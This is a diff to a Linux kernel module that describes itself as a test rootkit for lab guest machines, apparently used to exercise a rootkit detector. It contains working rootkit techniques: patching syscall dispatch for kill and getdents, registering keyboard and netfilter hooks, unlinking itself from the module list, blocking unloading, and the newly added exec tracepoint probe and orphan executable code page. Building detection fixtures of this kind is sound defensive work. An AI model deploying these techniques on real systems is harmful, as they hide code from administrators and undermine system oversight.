@@ -6,8 +6,11 @@
  * On load it hooks kill (62), getdents (78) and getdents64 (217) twice: in
  * sys_call_table and in the tail jumps of x64_sys_call (the dispatcher since
  * the branch-history-injection fix), registers a keyboard notifier and an
- * IPv4 LOCAL_IN netfilter hook, then unlinks itself from the module list
- * (it stays in sysfs and in mod_tree). It cannot be unloaded.
+ * IPv4 LOCAL_IN netfilter hook and a probe on the sched_process_exec
+ * tracepoint, puts code in an executable page of module space that is none
+ * of its own regions (what a rootkit that wiped its struct module leaves),
+ * then unlinks itself from the module list (it stays in sysfs and in
+ * mod_tree). It cannot be unloaded.
  *
  * kill(31337, 63) returns 0 (no such process exists): proof that the
  * patched dispatch is live. Every other call reaches the original handler.
@@ -23,6 +26,7 @@
 #include <linux/smp.h>
 #include <linux/stop_machine.h>
 #include <linux/string.h>
+#include <linux/tracepoint.h>
 #include <net/net_namespace.h>
 #include <asm/processor-flags.h>
 #include <asm/sync_core.h>
@@ -36,6 +40,9 @@
 typedef long (*syscall_fn)(const struct pt_regs *);
 typedef unsigned long (*lookup_name_fn)(const char *);
 typedef int (*size_offset_fn)(unsigned long, unsigned long *, unsigned long *);
+typedef void *(*module_alloc_fn)(unsigned long);
+typedef void *(*execmem_alloc_fn)(int, size_t);
+typedef int (*set_memory_fn)(unsigned long, int);
 
 static long mshot_testkit_kill(const struct pt_regs *regs);
 static long mshot_testkit_getdents(const struct pt_regs *regs);
@@ -104,6 +111,53 @@ static struct nf_hook_ops netfilter_ops = {
 	.hooknum = NF_INET_LOCAL_IN,
 	.priority = NF_IP_PRI_FIRST,
 };
+
+/*
+ * Runs at every exec (the tracepoint's arguments: the task, its old pid,
+ * the binprm); says once that it is live, then does nothing.
+ */
+static void mshot_testkit_exec(void *data, struct task_struct *p, pid_t old_pid, void *bprm)
+{
+	pr_info_once("mshot_testkit: exec probe called\n");
+}
+
+static struct tracepoint *exec_tp;
+
+static void find_exec_tp(struct tracepoint *tp, void *priv)
+{
+	if (!strcmp(tp->name, "sched_process_exec"))
+		*(struct tracepoint **)priv = tp;
+}
+
+/*
+ * Code no module owns: a page from module_alloc (execmem_alloc from 6.10,
+ * type EXECMEM_DEFAULT), made read-only then executable as the module
+ * loader does (never writable and executable at once), holding
+ * push rbp; mov rbp,rsp; mov eax,42; pop rbp; ret and a marker. Nothing
+ * calls it.
+ */
+static const u8 orphan_code[] = { 0x55, 0x48, 0x89, 0xe5, 0xb8, 0x2a, 0x00, 0x00, 0x00, 0x5d, 0xc3 };
+static void *orphan;
+
+static int plant_orphan(lookup_name_fn lookup)
+{
+	module_alloc_fn module_alloc = (module_alloc_fn)lookup("module_alloc");
+	execmem_alloc_fn execmem_alloc = (execmem_alloc_fn)lookup("execmem_alloc");
+	set_memory_fn set_ro = (set_memory_fn)lookup("set_memory_ro");
+	set_memory_fn set_x = (set_memory_fn)lookup("set_memory_x");
+
+	if (!set_ro || !set_x || !(module_alloc || execmem_alloc))
+		return -ENOENT;
+	orphan = module_alloc ? module_alloc(PAGE_SIZE) : execmem_alloc(0, PAGE_SIZE);
+	if (!orphan)
+		return -ENOMEM;
+	memset(orphan, 0xcc, PAGE_SIZE);
+	memcpy(orphan, orphan_code, sizeof(orphan_code));
+	memcpy(orphan + 0x20, "MSHOT-ORPHAN-CODE", 18);
+	if (set_ro((unsigned long)orphan, 1))
+		return -EINVAL;
+	return set_x((unsigned long)orphan, 1);
+}
 
 /*
  * Our own accessors: native_write_cr0 puts WP back (CR0 pinning), and the
@@ -281,11 +335,28 @@ static int __init mshot_testkit_init(void)
 		}
 	}
 
+	err = plant_orphan(lookup);
+	if (err) {
+		pr_err("mshot_testkit: no executable page for the orphan code (%d)\n", err);
+		return err;
+	}
+	for_each_kernel_tracepoint(find_exec_tp, &exec_tp);
+	if (!exec_tp) {
+		pr_err("mshot_testkit: no sched_process_exec tracepoint\n");
+		return -ENOENT;
+	}
+
 	err = register_keyboard_notifier(&keyboard_nb);
 	if (err)
 		return err;
 	err = nf_register_net_hook(&init_net, &netfilter_ops);
 	if (err) {
+		unregister_keyboard_notifier(&keyboard_nb);
+		return err;
+	}
+	err = tracepoint_probe_register(exec_tp, (void *)mshot_testkit_exec, NULL);
+	if (err) {
+		nf_unregister_net_hook(&init_net, &netfilter_ops);
 		unregister_keyboard_notifier(&keyboard_nb);
 		return err;
 	}
@@ -307,6 +378,9 @@ static int __init mshot_testkit_init(void)
 	}
 	pr_info("mshot_testkit: keyboard notifier %px, netfilter ipv4 LOCAL_IN hook %px\n",
 		mshot_testkit_keyboard, mshot_testkit_netfilter);
+	pr_info("mshot_testkit: tracepoint sched_process_exec %px probe %px\n", exec_tp,
+		mshot_testkit_exec);
+	pr_info("mshot_testkit: orphan code %px\n", orphan);
 
 	/*
 	 * The list_del rootkits do, made safe for RCU readers of the list:
@@ -326,5 +400,5 @@ static int __init mshot_testkit_init(void)
 module_init(mshot_testkit_init);
 
 MODULE_LICENSE("GPL");
-MODULE_DESCRIPTION("mshot test rootkit for the lab guests (hides, hooks syscalls)");
+MODULE_DESCRIPTION("mshot test rootkit for the lab guests (hides, hooks syscalls, probes a tracepoint)");
 MODULE_AUTHOR("mshot");
